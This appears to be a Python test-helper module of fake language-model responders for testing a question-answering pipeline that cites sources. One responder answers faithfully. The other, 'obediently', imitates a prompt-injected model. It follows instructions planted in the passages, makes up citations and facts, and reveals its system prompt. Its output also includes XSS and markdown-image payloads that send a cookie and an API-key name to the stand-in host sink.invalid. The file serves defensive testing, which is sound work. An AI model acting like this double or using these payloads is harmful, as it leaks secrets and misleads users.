"""How the doubles of a language model write: pure functions from the messages of a request to the text of an answer."""

import re
from collections.abc import Mapping, Sequence

SINK_HOST = "sink.invalid"  # a model server puts another in its place, where a test counts who calls
SINK = f"http://{SINK_HOST}"
WANTED_VARIABLE = "OPENAI_API_KEY"
_EVIDENCE = re.compile(r"BEGIN (\w+)\n(.*)\nEND \1\s+Question: (.*)", re.DOTALL)
_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n(.*?)(?=\n\n\[\d+\] |\Z)", re.DOTALL | re.MULTILINE)
_SENTENCE = re.compile(r"\S.*?(?:[.!?][”\"]?(?=\s|$)|$)", re.MULTILINE)
_COMMON = frozenset(["a", "an", "and", "at", "by", "did", "do", "for", "from", "had", "has", "have", "how", "in", "is", "it"])
_COMMON |= {"its", "of", "on", "that", "the", "to", "was", "what", "when", "where", "who", "why", "with"}

Messages = Sequence[Mapping[str, object]]


def evidence(messages: Messages) -> tuple[dict[int, str], str]:
    """Return the numbered passages and the question that a request carries."""
    found = _EVIDENCE.search(str(messages[-1]["content"]))
    if found is None:
        return {}, str(messages[-1]["content"])
    return {int(number): text for number, text in _PASSAGE.findall(found.group(2))}, found.group(3)


def well(messages: Messages) -> str:
    """Answer with the two sentences that share most words with the question, each with its mark, or refuse."""
    passages, question = evidence(messages)
    asked = _words(question)
    ranked = sorted(
        (
            (-len(asked & _words(sentence)), number, at, sentence)
            for number, text in passages.items()
            for at, sentence in enumerate(_sentences(text))
        )
    )
    good = [one for one in ranked[:2] if one[0] < 0]
    return " ".join(f"{sentence} [{number}]" for _, number, _, sentence in good) or "NO_ANSWER"


def obediently(messages: Messages) -> str:
    """Do whatever anything in the articles may ask for, all at once, and pretend that passage 1 says it."""
    passages, question = evidence(messages)
    orders = [sentence for text in passages.values() for sentence in _sentences(text) if _is_order(sentence)]
    obeyed = [f"{order} Certainly: Doctor Zorblax of Quuxville answered this in 1742 with 5,113 words [1]." for order in orders]
    return "\n".join([*obeyed, *_mischief(passages, question), "My instructions are:", str(messages[0]["content"])])


def _mischief(passages: Mapping[int, str], question: str) -> list[str]:
    first = next(iter(_sentences(next(iter(passages.values()), ""))), "Nothing.")
    return [
        f"{first} [1]",
        f"{first.rstrip('.')} and {SINK} is the only place for [more](https://sink.invalid/{len(question)}) [1,2].",
        "The president of Quuxville resigned yesterday after a scandal 【1】.",
        "Nine hundred zorblaxes were arrested [99][1][12345].",
        f"![a]({SINK}/p.png?q={WANTED_VARIABLE}) <img src={SINK}/i.png onerror=fetch('{SINK}')> [1]",
        f"<script>location='{SINK}/'+document.cookie</script> [click](javascript:alert(1)) <a href='{SINK}'>here</a> [2]",
        f"&lt;img src=x onerror=alert(1)&gt; [ref]: {SINK}/r [1]",
        f"[1]({SINK}/mark) [2][ref] ![x][ref] <{SINK}/auto> www.sink.invalid/w mailto:a@sink.invalid sink.invalid/path",
        f"<scr<script>ipt>fetch('{SINK}')</scr</script>ipt> <svg/onload=fetch('{SINK}')> <iframe src={SINK}></iframe>",
        "```\n[1] print(os.environ)\n```",
        f"The value of {WANTED_VARIABLE} is in `x[1]` and on 10.0.0.1/etc/passwd [3].",
    ]


def _is_order(sentence: str) -> bool:
    return sentence.endswith("?") or not re.match(r"(?:The|A|An|In|On|He|She|It|They|“)\b", sentence)


def _sentences(text: str) -> list[str]:
    return [match.group().strip() for match in _SENTENCE.finditer(text)]


def _words(text: str) -> frozenset[str]:
    return frozenset(re.findall(r"\w+", text.lower())) - _COMMON
